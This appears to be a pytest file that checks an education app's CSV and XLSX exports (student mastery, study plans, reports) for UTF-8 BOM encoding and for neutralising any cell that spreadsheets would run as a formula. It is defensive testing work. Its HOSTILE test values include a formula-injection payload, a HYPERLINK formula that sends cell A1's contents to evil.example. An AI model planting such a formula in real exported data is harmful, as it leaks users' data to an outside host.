"""XLSX and CSV exports: UTF-8 with BOM, and no cell Excel could run as a formula."""

import csv
from pathlib import Path

import pytest
from insight_helpers import LINKS, tiny_class
from openpyxl import load_workbook

from app.export import ExportError, export_mastery, export_plans, export_report
from app.export.tables import FORMULA_STARTS, Table, neutralise, write_csv, write_xlsx
from app.insight.plans import DiagnosedClass, PlanSettings

HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "+86 138", "-2+3", "@SUM(A1)", "\t=1+1")


def hostile_data() -> DiagnosedClass:
    matrix, diagnosis, success = tiny_class(names=HOSTILE[:3])
    return DiagnosedClass("八年级(3)班", matrix, diagnosis, success, prerequisites=LINKS)


def _text_cells_ok(values) -> None:
    for v in values:
        if isinstance(v, str) and v:
            assert not v.startswith(FORMULA_STARTS), repr(v)


def test_neutralise_prefixes_formula_like_text_only() -> None:
    assert neutralise('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert [neutralise(v) for v in HOSTILE[1:]] == ["'+86 138", "'-2+3", "'@SUM(A1)", "'\t=1+1"]
    assert neutralise("\rX") == "'\rX"
    assert neutralise("张三") == "张三" and neutralise(-0.5) == -0.5 and neutralise(3) == 3
    assert neutralise(float("nan")) is None


def test_csv_is_utf8_with_bom_and_neutralised(tmp_path: Path) -> None:
    path = write_csv(Table("t", ("姓名", "=x"), [(HOSTILE[0], 0.5), ("张三", -1.0)]), tmp_path / "t.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == ["姓名", "'=x"]
    assert rows[1][0].startswith("'=HYPERLINK") and rows[2] == ["张三", "-1.0"]


def test_xlsx_never_stores_a_formula(tmp_path: Path) -> None:
    path = write_xlsx([Table("表", ("姓名",), [(v,) for v in HOSTILE])], tmp_path / "t.xlsx")
    ws = load_workbook(path)["表"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    _text_cells_ok(c.value for c in cells)
    assert ws["A2"].value == "'" + HOSTILE[0]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_plans_and_mastery_with_hostile_names(tmp_path: Path, fmt: str) -> None:
    data = hostile_data()
    for export, name in ((export_plans, "plans"), (export_mastery, "mastery")):
        (path,) = export(data, tmp_path / f"{name}.{fmt}", lang="zh")
        if fmt == "csv":
            raw = path.read_bytes()
            assert raw.startswith(b"\xef\xbb\xbf")
            rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
            values = [v for row in rows for v in row]
        else:
            wb = load_workbook(path)
            cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
            assert all(c.data_type != "f" for c in cells)
            values = [c.value for c in cells]
        _text_cells_ok(values)
        assert any(isinstance(v, str) and v.startswith("'=HYPERLINK") for v in values)


def test_plan_rows_carry_path_and_questions(tmp_path: Path) -> None:
    data = hostile_data()
    (path,) = export_plans(data, tmp_path / "plans.csv", lang="en", settings=PlanSettings(threshold=0.6))
    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
    first = [r for r in rows if r["Student number"] == "2024001"]
    assert [r["Knowledge point"] for r in first][:4] == ["D", "D", "A", "A"]
    assert {r["Question"] for r in first if r["Knowledge point"] == "A"} == {"q1", "q3", "q4"}
    assert all(r["Reason"] for r in first)
    # a student with nothing weak still has a row saying so
    second = [r for r in rows if r["Student number"] == "2024002"]
    assert len(second) == 1 and "No knowledge point" in second[0]["Reason"]


def test_mastery_never_calls_insufficient_evidence_weak(tmp_path: Path) -> None:
    (path,) = export_mastery(hostile_data(), tmp_path / "m.xlsx", lang="zh")
    wb = load_workbook(path)
    wide = wb["掌握度"]
    assert [c.value for c in wide[1]] == ["学生", "学号", "A", "B", "C", "D", "E"]
    assert wide["G2"].value == "证据不足" and wide["C2"].value == pytest.approx(0.3)
    assert wb["掌握度明细"].max_row == 1 + 3 * 5


def test_report_xlsx_and_bad_formats(tmp_path: Path) -> None:
    (path,) = export_report(hostile_data(), tmp_path / "r.xlsx", lang="en", settings=PlanSettings(threshold=0.6))
    assert load_workbook(path).sheetnames == ["Knowledge points", "Item analysis", "Students needing help"]
    with pytest.raises(ExportError) as err:
        export_report(hostile_data(), tmp_path / "r.csv")
    assert "pdf" in err.value.text.zh
    with pytest.raises(ExportError):
        export_mastery(hostile_data(), tmp_path / "m.pdf")
